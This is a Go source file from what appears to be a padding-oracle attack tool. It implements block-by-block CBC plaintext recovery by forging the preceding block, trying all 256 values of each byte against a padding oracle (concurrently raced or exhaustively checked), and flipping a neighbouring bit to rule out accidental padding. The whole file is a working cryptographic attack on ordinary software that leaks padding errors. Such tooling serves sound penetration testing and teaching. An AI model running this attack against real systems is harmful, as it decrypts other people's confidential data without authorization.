package paddingoracle

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"sync"

	"golang.org/x/sync/errgroup"

	"github.com/mario-areias/padding-oracle/oracle"
	"github.com/mario-areias/padding-oracle/race"
)

const (
	unknownHex   = "__"
	unknownGlyph = '░'
	controlGlyph = '·'
)

// Block holds the recovery state of one ciphertext block. Bytes are recovered
// strictly from the last one backwards, one per Step.
type Block struct {
	index     int
	preceding []byte
	target    []byte
	oracle    oracle.Oracle

	// exhaustive probes every candidate instead of racing them; limit bounds
	// how many run at once.
	exhaustive bool
	limit      int

	// decryption is the raw block cipher output for target, before the XOR
	// with preceding. Only the last known bytes of both buffers are valid.
	decryption []byte
	plaintext  []byte
	known      int
}

// NewBlock prepares block index for cracking. preceding is the IV for the
// first block and the previous ciphertext block otherwise.
func NewBlock(index int, preceding, target []byte, o oracle.Oracle) (*Block, error) {
	n := len(target)
	if n == 0 || n > 255 || len(preceding) != n {
		return nil, fmt.Errorf("%w: preceding %d bytes, target %d bytes", ErrInvalidBlockLength, len(preceding), n)
	}
	return &Block{
		index:      index,
		preceding:  bytes.Clone(preceding),
		target:     bytes.Clone(target),
		oracle:     o,
		decryption: make([]byte, n),
		plaintext:  make([]byte, n),
	}, nil
}

func (b *Block) Known() int {
	return b.known
}

func (b *Block) Complete() bool {
	return b.known == len(b.target)
}

// Plaintext returns a copy of the recovered plaintext. Positions that aren't
// known yet are zero.
func (b *Block) Plaintext() []byte {
	return bytes.Clone(b.plaintext)
}

// Step recovers the last unknown byte.
//
// Every known byte of the forged preceding block is set so that it decrypts to
// the padding value known+1, then each value of the unknown byte is tried.
// The one the oracle accepts XORed with the padding value is the raw
// decryption of that byte.
func (b *Block) Step(ctx context.Context) error {
	if b.Complete() {
		return ErrBlockComplete
	}

	n := len(b.target)
	pos := n - b.known - 1
	padding := byte(b.known + 1)

	forged := bytes.Clone(b.preceding)
	for i := pos + 1; i < n; i++ {
		forged[i] = b.decryption[i] ^ padding
	}

	find := b.raceCandidates
	if b.exhaustive {
		find = b.probeAll
	}
	v, err := find(ctx, forged, pos)
	if err != nil {
		return &ByteError{Block: b.index, Position: pos, Err: err}
	}

	b.decryption[pos] = v ^ padding
	b.plaintext[pos] = b.decryption[pos] ^ b.preceding[pos]
	b.known++
	return nil
}

type verdict int

const (
	rejected verdict = iota
	confirmed
)

type candidate struct {
	value   byte
	verdict verdict
}

// probe asks the oracle about a single value of the byte at pos.
//
// Valid padding is ambiguous while the byte left of pos is untouched: with
// nothing known yet, the original preceding block may already decrypt to
// ...02 02 and accept a value that yields 0x02 rather than 0x01. Flipping a
// bit of the byte to the left breaks any such accidental padding but leaves the
// forged one intact, so the value is only confirmed if the oracle still
// accepts.
func (b *Block) probe(forged []byte, pos int, v byte) race.Op[candidate] {
	return func(ctx context.Context) (candidate, error) {
		c := candidate{value: v}

		mutated := bytes.Clone(forged)
		mutated[pos] = v
		ok, err := b.oracle.Check(ctx, mutated, b.target)
		if err != nil || !ok {
			return c, err
		}

		if pos > 0 {
			mutated[pos-1] ^= 1
			ok, err = b.oracle.Check(ctx, mutated, b.target)
			if err != nil || !ok {
				return c, err
			}
		}

		c.verdict = confirmed
		return c, nil
	}
}

func (b *Block) raceCandidates(ctx context.Context, forged []byte, pos int) (byte, error) {
	ops := make([]race.Op[candidate], 256)
	for v := range ops {
		ops[v] = b.probe(forged, pos, byte(v))
	}

	c, err := race.Predicate(ctx, func(o race.Outcome[candidate]) bool {
		return o.Succeeded() && o.Value.verdict == confirmed
	}, ops)
	if err != nil {
		if ctx.Err() != nil {
			return 0, ctx.Err()
		}
		return 0, fmt.Errorf("%w: %w", ErrNoCandidate, err)
	}
	return c.value, nil
}

// probeAll tries all 256 values and insists that exactly one is confirmed.
func (b *Block) probeAll(ctx context.Context, forged []byte, pos int) (byte, error) {
	g, ctx := errgroup.WithContext(ctx)
	if b.limit > 0 {
		g.SetLimit(b.limit)
	}

	var (
		mu    sync.Mutex
		found []byte
	)
	for v := range 256 {
		op := b.probe(forged, pos, byte(v))
		g.Go(func() error {
			c, err := op(ctx)
			if err != nil {
				return err
			}
			if c.verdict == confirmed {
				mu.Lock()
				found = append(found, c.value)
				mu.Unlock()
			}
			return nil
		})
	}
	if err := g.Wait(); err != nil {
		return 0, err
	}

	switch len(found) {
	case 0:
		return 0, ErrNoCandidate
	case 1:
		return found[0], nil
	default:
		return 0, fmt.Errorf("%w: %d values confirmed", ErrAmbiguousCandidate, len(found))
	}
}

// String renders the block as hex and printable ASCII. Unknown bytes are shown
// as placeholders and control bytes as a dot.
func (b *Block) String() string {
	n := len(b.target)
	first := n - b.known

	var hex, text strings.Builder
	for i, p := range b.plaintext {
		if i > 0 {
			hex.WriteByte(' ')
		}
		switch {
		case i < first:
			hex.WriteString(unknownHex)
			text.WriteRune(unknownGlyph)
		case p >= 0x20 && p < 0x7f:
			fmt.Fprintf(&hex, "%02x", p)
			text.WriteByte(p)
		default:
			fmt.Fprintf(&hex, "%02x", p)
			text.WriteRune(controlGlyph)
		}
	}
	return hex.String() + " | " + text.String()
}
